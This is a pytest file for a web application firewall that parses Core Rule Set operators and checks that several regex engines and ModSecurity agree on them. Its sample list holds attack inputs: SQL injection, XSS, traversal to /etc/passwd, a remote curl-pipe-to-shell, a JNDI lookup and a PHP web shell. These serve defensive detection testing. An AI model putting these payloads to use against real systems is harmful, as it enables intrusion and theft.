"""Every @rx, @pm and @pmFromFile argument of the Core Rule Set compiles and behaves alike.

A small reader pulls the operator out of each ``SecRule`` line. It handles
line continuations, comments and ``\\"`` inside the quoted operator, which
covers every construct the CRS rule files use.
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from stockade.waf.operators import Operator, OperatorError, build_operator
from stockade.waf.operators.rx import Rx
from tests.waf.operators.recording import RecordingContext
from tests.waf.transformations.libmodsecurity import ModSecurity, load_modsecurity

pytestmark = pytest.mark.crs

COMPILED_OPERATORS = ("rx", "pm", "pmFromFile", "pmf")
PAYLOAD_STRIDE = 40  # every 40th distinct regression-test payload, about 110 values

# Values run through every pattern compiled by both engines; the engines
# must agree on each. They mix attacks, ordinary API data and line endings.
SAMPLE_VALUES = [
    b"",
    b"hello world",
    b"/api/v1/users/42?fields=name,email",
    b'{"name": "Jos\xc3\xa9", "tags": ["a", "b"]}',
    b"1' OR '1'='1",
    b"1 UNION SELECT password FROM users--",
    b"admin'/**/or/**/1=1#",
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(document.cookie)>",
    b"javascript:alert(1)",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\win.ini",
    b"; cat /etc/passwd",
    b"$(curl http://198.51.100.7/x.sh|sh)",
    b"`id`",
    b"${jndi:ldap://198.51.100.7/a}",
    b"<?php system($_GET['c']); ?>",
    b"__proto__[admin]=1",
    b"file:///etc/shadow",
    b"Mozilla/5.0 (compatible; Nikto/2.5.0)",
    b"text/html; charset=utf-8",
    b"a\nb\r\n",
    b"select\n",
    b"x\x0bunion\x0bselect\x0b",
    b"\xff\xfe\x00\x01",
    b"%u0027%27%2527",
]


@dataclass(frozen=True)
class RuleOperator:
    rule_id: str
    file: str
    name: str
    argument: str


def _directives(text: str) -> Iterator[str]:
    """Yield each directive with its continuation lines joined."""
    pending = ""
    for line in text.split("\n"):
        stripped = line.rstrip()
        if stripped.endswith("\\"):
            pending += stripped[:-1]
            continue
        pending += stripped
        if pending.strip() and not pending.lstrip().startswith("#"):
            yield pending.strip()
        pending = ""


def _quoted(text: str, start: int) -> tuple[str, int]:
    """Return the text of the double-quoted string at ``start`` and the index after it."""
    chars: list[str] = []
    index = start + 1
    while index < len(text):
        char = text[index]
        if char == "\\" and text[index + 1 : index + 2] == '"':
            chars.append('"')
            index += 2
            continue
        if char == '"':
            return "".join(chars), index + 1
        chars.append(char)
        index += 1
    return "".join(chars), index


def _rule_id(actions: str) -> str:
    position = actions.find("id:")
    if position < 0:
        return "(chained)"
    digits = ""
    for char in actions[position + 3 :]:
        if not char.isdigit():
            break
        digits += char
    return digits


def read_rule_operators(rules: Path) -> list[RuleOperator]:
    """Return the @rx, @pm and @pmFromFile operators of every rule file in ``rules``."""
    found: list[RuleOperator] = []
    for path in sorted(rules.glob("*.conf")):
        for directive in _directives(path.read_text(encoding="utf-8")):
            if not directive.startswith("SecRule "):
                continue
            rest = directive[len("SecRule ") :].lstrip()
            rest = rest[rest.find(" ") :].lstrip()  # skip the variables
            if not rest.startswith('"'):
                continue
            operator, end = _quoted(rest, 0)
            operator = operator.removeprefix("!")
            if operator.startswith("@"):
                name, _, argument = operator[1:].partition(" ")
            else:
                name, argument = "rx", operator
            if name in COMPILED_OPERATORS:
                found.append(RuleOperator(_rule_id(rest[end:]), path.name, name, argument))
    return found


@pytest.fixture(scope="module")
def compiled(crs_rules_dir: Path) -> list[tuple[RuleOperator, Operator | OperatorError]]:
    results: list[tuple[RuleOperator, Operator | OperatorError]] = []
    for item in read_rule_operators(crs_rules_dir):
        try:
            operator = build_operator(item.name, item.argument, base_dir=crs_rules_dir)
            results.append((item, operator))
        except OperatorError as error:
            results.append((item, error))
    return results


def test_reader_finds_the_crs_operators(
    compiled: list[tuple[RuleOperator, Operator | OperatorError]],
) -> None:
    names = {item.name for item, _ in compiled}
    assert len(compiled) > 300
    assert {"rx", "pm", "pmFromFile"} <= names


def test_every_crs_pattern_compiles(
    compiled: list[tuple[RuleOperator, Operator | OperatorError]],
) -> None:
    failures = [
        f"{item.rule_id} ({item.file}) @{item.name}: {result}"
        for item, result in compiled
        if isinstance(result, OperatorError)
    ]
    assert failures == []


def test_hyperscan_and_re2_agree_on_samples(
    compiled: list[tuple[RuleOperator, Operator | OperatorError]],
) -> None:
    disagreements = []
    for item, operator in compiled:
        if not isinstance(operator, Rx) or operator.compiled is None:
            continue
        both = operator.compiled
        if both.engines != ("hyperscan", "re2"):
            continue
        for value in SAMPLE_VALUES:
            by_hyperscan = both.search(value)
            by_re2 = both.re2_search(value)
            # RE2's multi-line "^" also matches after a newline that ends the
            # value, where PCRE and hyperscan do not; captures guard against it.
            if value.endswith(b"\n") and by_re2 and not by_hyperscan:
                continue
            if by_hyperscan != by_re2:
                disagreements.append(f"{item.rule_id} on {value!r}: hyperscan={by_hyperscan}")
    assert disagreements == []


def regression_payloads(crs_root: Path) -> list[bytes]:
    """Return every 40th distinct URI, body and header value of the CRS regression tests."""
    payloads: set[bytes] = set()
    for path in sorted((crs_root / "tests" / "regression" / "tests").rglob("*.yaml")):
        document = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
        for test in document.get("tests", []):
            for stage in test.get("stages", []):
                request = stage.get("input") or {}
                texts = [request.get("uri"), request.get("data")]
                texts += list((request.get("headers") or {}).values())
                for text in texts:
                    if isinstance(text, str):
                        payloads.add(urllib.parse.unquote_to_bytes(text))
    return sorted(payloads)[::PAYLOAD_STRIDE]


@pytest.fixture(scope="module")
def modsecurity() -> ModSecurity:
    engine = load_modsecurity()
    if engine is None:
        pytest.skip("libmodsecurity 3 is not installed; apt-get install libmodsecurity3")
    return engine


def test_crs_patterns_match_modsecurity(
    compiled: list[tuple[RuleOperator, Operator | OperatorError]],
    crs_rules_dir: Path,
    modsecurity: ModSecurity,
) -> None:
    values = SAMPLE_VALUES + regression_payloads(crs_rules_dir.parent)
    context = RecordingContext()
    mismatches = []
    for item, operator in compiled:
        if item.name != "rx" or isinstance(operator, OperatorError):
            continue
        argument = item.argument.replace('"', '\\"')
        verdicts = modsecurity.rule_denies_each(f"@rx {argument}", "t:none", values)
        for value, theirs in zip(values, verdicts, strict=True):
            if operator.evaluate(value, context) != theirs:
                mismatches.append(f"{item.rule_id} on {value[:80]!r}: ModSecurity {theirs}")
    assert mismatches == []
